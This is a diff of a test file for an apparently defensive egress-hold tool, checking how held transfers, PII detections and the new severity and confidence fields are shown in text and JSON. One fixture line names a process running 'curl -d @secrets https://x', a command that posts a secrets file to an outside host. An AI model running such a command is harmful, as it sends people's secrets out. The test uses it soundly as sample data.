@@ -161,14 +161,18 @@ def test_hold_text_is_readable() -> None:
     assert lines[-1] == "  votes: 1 of 2; bob (looks fine)"
     assert "who:   alice (uid 1000), pid 7 curl -d @secrets https://x [container 0123456789ab]" in text
     assert "where: [2001:db8::1]:443" in text
-    assert "data:  pii.email a***@x.com" in text
+    assert "data:  pii.email a***@x.com\n" in text          # no ratings sent: none shown
+    rated = _hold()
+    rated.detections[0].severity, rated.detections[0].confidence = "medium", "high"
+    assert "data:  pii.email a***@x.com (severity medium, confidence high)\n" in ctl.hold_text(rated)
     assert "held by destination rule" in ctl.hold_text(_hold(detections=0))
 
 
 def test_json_shapes_never_carry_offsets_or_raw_values() -> None:
     h = ctl.hold_json(_hold(host="x.example"))
     assert h["detections"] == [{"detector": "pii.email", "class": "pii", "preview": "a***@x.com",
-                                "fingerprint": "fp:9", "severity": ""}]
+                                "fingerprint": "fp:9", "severity": "",
+                                "confidence": ""}]
     assert h["destination"]["host"] == "x.example" and h["age_s"] == 75.2
     ev = pb.HoldEvent(kind=pb.HOLD_EVENT_KIND_DECIDED, hold=_hold(), time=1.0,
                       decision=pb.Decision(outcome=pb.OUTCOME_DENIED, by_user="root", reason="no"))
